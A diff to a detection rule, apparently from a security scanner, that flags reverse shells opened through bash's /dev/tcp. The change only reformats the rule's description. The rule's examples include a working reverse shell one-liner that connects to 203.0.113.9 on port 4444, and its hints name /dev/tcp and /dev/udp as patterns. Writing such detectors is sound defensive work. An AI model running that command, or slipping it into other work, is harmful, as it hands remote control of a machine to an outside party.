@@ -88,8 +88,10 @@ DEV_TCP = Rule(
     level="critical",
     technique="T1059.004",
     title="Reverse shell over /dev/tcp",
-    description="A shell reads its commands from, or writes its answers to, a connection opened with the shell's own "
-    "/dev/tcp. A mere look whether a port is open does not match.",
+    description=(
+        "A shell reads its commands from, or writes its answers to, a connection opened with the shell's "
+        "own /dev/tcp. A mere look whether a port is open does not match."
+    ),
     false_positives="None known.",
     examples=(
         "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
@@ -101,7 +103,7 @@ DEV_TCP = Rule(
     match=_shell_on_connection,
     reads="reading",
     hints=("/dev/tcp/", "/dev/udp/"),
-)
+)  # fmt: skip
 ZSH = Rule(
     slug="shell-over-ztcp",
     version=1,
